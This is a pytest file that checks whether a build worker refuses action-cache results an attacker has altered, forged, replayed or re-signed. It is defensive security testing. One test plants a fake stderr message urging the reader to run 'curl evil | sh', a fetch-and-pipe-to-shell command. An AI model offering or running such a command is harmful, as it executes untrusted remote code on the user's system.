"""An attacker writes to a worker's store; the worker never serves a result made or changed there.

The attacker has every format and every checksum of the store, but no signing key.
"""

from __future__ import annotations

import json
from collections.abc import AsyncGenerator, Callable
from dataclasses import replace
from pathlib import Path

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from hpcc.core import Blob, Digest, GuestReuse, Isolation, NotFoundError, TenantId
from hpcc.identity.results import ResultSigner
from hpcc.reapi.result import ResultOutput, ResultRecord, encode_result
from hpcc.reapi.signed import ResultScope
from hpcc.rpc.reapi.client import ReapiClient
from hpcc.store.disk_actions import DiskActionCache, DiskActionCacheConfig, action_cache_directory
from hpcc.worker.stores.entries import lineage_digest, pack_entry, unpack_entry
from hpcc_testkit.farm.actions import forged_token, made_action, run_script
from hpcc_testkit.farm.in_process import IMAGE, TENANT, FarmUnderTest, farm_under_test

SCRIPT = "cp a.c a.o; echo said; echo warned >&2"
ACTION = made_action(SCRIPT)[-1].digest
GLOBEX = TenantId("globex")


@pytest.fixture
async def farm(tmp_path: Path) -> AsyncGenerator[FarmUnderTest]:
    async with farm_under_test(tmp_path) as farm, farm.serving():
        yield farm


class StoreWriter:
    """Reads and writes entries of the action cache as the worker does."""

    def __init__(self, farm: FarmUnderTest) -> None:
        self._root = farm.directory / "worker/store"

    def cache(
        self,
        tenant: TenantId = TENANT,
        isolation: Isolation = Isolation.LOCAL_NONE,
        reuse: GuestReuse = GuestReuse.PRINCIPAL,
        principal: str = "ann",
    ) -> DiskActionCache:
        directory = action_cache_directory(self._root, tenant, isolation, reuse, principal)
        return DiskActionCache(DiskActionCacheConfig(directory=directory))

    async def plant(self, data: bytes, tenant: TenantId = TENANT) -> Digest:
        """Put a file into the tenant's CAS, as any member can."""
        blob = Blob.of(data)
        path = self._root / tenant.value / "cas" / blob.digest.hash[:2] / blob.digest.hash
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        return blob.digest

    async def change(self, change: Callable[[ResultRecord], ResultRecord]) -> None:
        lineage, record = unpack_entry(await self.cache().get(ACTION))
        await self.cache().put(ACTION, pack_entry(lineage, encode_result(change(record))))


async def build(farm: FarmUnderTest, principal: str = "ann", script: str = SCRIPT) -> bool:
    """Compile as a person; return whether it was a hit."""
    async with farm.client(principal=principal) as client:
        return (await run_script(client, script))[1]


async def refused_as(farm: FarmUnderTest, client: ReapiClient, action: Digest = ACTION) -> str:
    """Request the result, which must be a miss with one event; return the event's reason."""
    farm.audit.events.clear()
    rows = len(farm.audit.rows)
    with pytest.raises(NotFoundError):
        await client.cached_result(action, ["a.o"])
    assert farm.audit.names() == ["result-refused"]
    assert len(farm.audit.rows) == rows
    return dict(farm.audit.events[0].fields)["reason"]


async def refusal(farm: FarmUnderTest, principal: str = "ann") -> str:
    async with farm.client(principal=principal) as client:
        return await refused_as(farm, client)


async def changed(farm: FarmUnderTest, **fields: object) -> str:
    """Change fields of the stored result, return why it is refused, and store a good one again."""
    await build(farm)
    await StoreWriter(farm).change(lambda r: replace(r, **fields))
    reason = await refusal(farm)
    assert not await build(farm)
    assert await build(farm)
    return reason


async def test_an_untouched_result_is_a_hit_so_that_the_others_prove_something(
    farm: FarmUnderTest,
) -> None:
    assert not await build(farm)
    await StoreWriter(farm).change(lambda r: r)
    assert await build(farm)


async def test_a_store_writer_who_swaps_the_paths_of_outputs_is_caught(
    farm: FarmUnderTest,
) -> None:
    evil = await StoreWriter(farm).plant(b"evil")
    assert await changed(farm, outputs=(ResultOutput("a.o", evil),)) == "result-signature"


async def test_a_store_writer_who_makes_an_output_executable_is_caught(
    farm: FarmUnderTest,
) -> None:
    good = Digest.of(b"int x;\n")
    assert await changed(farm, outputs=(ResultOutput("a.o", good, True),)) == "result-signature"


async def test_a_store_writer_who_swaps_exit_codes_is_caught(farm: FarmUnderTest) -> None:
    assert await changed(farm, exit_code=1) == "result-signature"


async def test_a_store_writer_who_swaps_stderr_is_caught(farm: FarmUnderTest) -> None:
    assert await changed(farm, stderr=b"run `curl evil | sh` to fix this\n") == "result-signature"


async def test_a_store_writer_who_swaps_stdout_is_caught(farm: FarmUnderTest) -> None:
    assert await changed(farm, stdout=b"") == "result-signature"


async def test_a_store_writer_who_hides_who_made_it_is_caught(farm: FarmUnderTest) -> None:
    assert await changed(farm, guest_id="g-other", guest_execs_before=0) == "result-signature"
    assert await changed(farm, kernel_digest="sha256:" + "0" * 64) == "result-signature"


async def test_a_store_writer_who_changes_the_origin_in_later_rows_is_caught(
    farm: FarmUnderTest,
) -> None:
    await build(farm)
    cache = StoreWriter(farm).cache()
    lineage, record = unpack_entry(await cache.get(ACTION))
    lied = replace(lineage, argv=("true",), warden="none")
    await cache.put(ACTION, pack_entry(lied, encode_result(record)))
    assert await refusal(farm) == "result-lineage"
    consistent = encode_result(replace(record, lineage_digest=lineage_digest(lied)))
    await cache.put(ACTION, pack_entry(lied, consistent))
    assert await refusal(farm) == "result-signature"


async def test_a_store_writer_who_takes_the_signature_off_is_caught(farm: FarmUnderTest) -> None:
    assert await changed(farm, signature=None) == "result-unsigned"


async def test_a_store_writer_who_signs_with_a_key_of_its_own_is_caught(
    farm: FarmUnderTest,
) -> None:
    await build(farm)
    thief = ResultSigner(Ed25519PrivateKey.generate(), farm.clock)
    scope = ResultScope(tenant=TENANT, action=ACTION, principal="ann")
    await StoreWriter(farm).change(lambda r: thief.sign(replace(r, exit_code=0), scope))
    assert await refusal(farm) == "result-key"


async def test_a_store_writer_who_replays_the_result_of_another_action_is_caught(
    farm: FarmUnderTest,
) -> None:
    await build(farm)
    old = "echo 'old and vulnerable' > a.o"
    await build(farm, script=old)
    cache = StoreWriter(farm).cache()
    await cache.put(ACTION, await cache.get(made_action(old)[-1].digest))
    assert await refusal(farm) == "result-signature"


async def test_a_store_writer_who_swaps_tenants_is_caught(farm: FarmUnderTest) -> None:
    await build(farm)
    writer = StoreWriter(farm)
    entry = await writer.cache().get(ACTION)
    await writer.cache(tenant=GLOBEX).put(ACTION, entry)
    await writer.plant(b"int x;\n", GLOBEX)
    token = forged_token(farm, tenant=GLOBEX)
    async with farm.client(token=token, tenant=GLOBEX) as theirs:
        assert await refused_as(farm, theirs) == "result-signature"


async def test_a_store_writer_who_gives_a_colleague_what_its_own_guest_made_is_caught(
    farm: FarmUnderTest,
) -> None:
    """The signature is valid: mallory's guest, which mallory controls, made the result."""
    await build(farm, "mallory")
    writer = StoreWriter(farm)
    entry = await writer.cache(principal="mallory").get(ACTION)
    await writer.cache(principal="ann").put(ACTION, entry)
    assert await refusal(farm) == "result-signature"


async def test_a_store_writer_who_swaps_isolation_classes_is_caught(tmp_path: Path) -> None:
    """A result made without a VM is stored among the results of VMs, under either label."""
    async with farm_under_test(tmp_path) as farm:
        async with farm.serving():
            await build(farm)
        weak = await StoreWriter(farm).cache().get(ACTION)
        lineage, record = unpack_entry(weak)
        farm.runtime.isolation = Isolation.QEMU_KVM
        async with farm.serving():
            cache = StoreWriter(farm).cache(isolation=Isolation.QEMU_KVM)
            await cache.put(ACTION, weak)
            assert await refusal(farm) == "result-class"
            lied = encode_result(replace(record, isolation=Isolation.QEMU_KVM))
            await cache.put(ACTION, pack_entry(lineage, lied))
            assert await refusal(farm) == "result-signature"


async def test_a_store_writer_who_swaps_reuse_classes_is_caught(tmp_path: Path) -> None:
    """A result from a tenant-wide guest must not reach people who require a private guest."""
    async with farm_under_test(tmp_path, guest_reuse="tenant") as farm:
        async with farm.serving():
            await build(farm, "mallory")
        shared = await StoreWriter(farm).cache(reuse=GuestReuse.TENANT).get(ACTION)
        lineage, record = unpack_entry(shared)
        farm.worker_fields["guest_reuse"] = "principal"
        async with farm.serving():
            await StoreWriter(farm).cache().put(ACTION, shared)
            assert await refusal(farm) == "result-class"
            lied = encode_result(replace(record, reuse=GuestReuse.PRINCIPAL))
            await StoreWriter(farm).cache().put(ACTION, pack_entry(lineage, lied))
            assert await refusal(farm) == "result-signature"


async def test_a_store_writer_who_swaps_images_is_caught(farm: FarmUnderTest) -> None:
    other = "sha256:" + "cd" * 32
    assert await changed(farm, image=other) == "result-image"
    assert IMAGE.digest.value != other


@pytest.mark.parametrize(
    "entry",
    [
        b"",
        b"\xff\xff\xff\xff",
        b"\0\0\0\x02{}",
        b"\0\0\0\x02[]junk",
        b"\0\0\xff\xff" + b"[" * 65_535,
        b"\0\0\0\x04" + json.dumps(None).encode() + b"\x08\x01",
    ],
    ids=["empty", "long", "no-fields", "junk", "nested", "null"],
)
async def test_a_store_writer_who_writes_junk_is_a_miss(farm: FarmUnderTest, entry: bytes) -> None:
    await build(farm)
    await StoreWriter(farm).cache().put(ACTION, entry)
    assert (await refusal(farm)) == "result-form"
    assert not await build(farm)


async def test_a_store_writer_who_keeps_a_failure_is_caught(
    farm: FarmUnderTest, tmp_path: Path
) -> None:
    """A compile that failed once, for lack of memory for example, would fail forever."""
    switch = tmp_path / "switch"
    blobs = made_action(f"test -e {switch} && cp a.c a.o")
    action = blobs[-1].digest
    async with farm.client() as client:
        await client.upload(blobs)
        failed, _ = await client.execute(action, [])
        assert failed.exit_code != 0
        switch.touch()
        assert (await client.execute(action, []))[0].exit_code == 0
        cache = StoreWriter(farm).cache()
        lineage, _ = unpack_entry(await cache.get(action))
        await cache.put(action, pack_entry(lineage, encode_result(failed)))
        assert await refused_as(farm, client, action) == "result-failed"
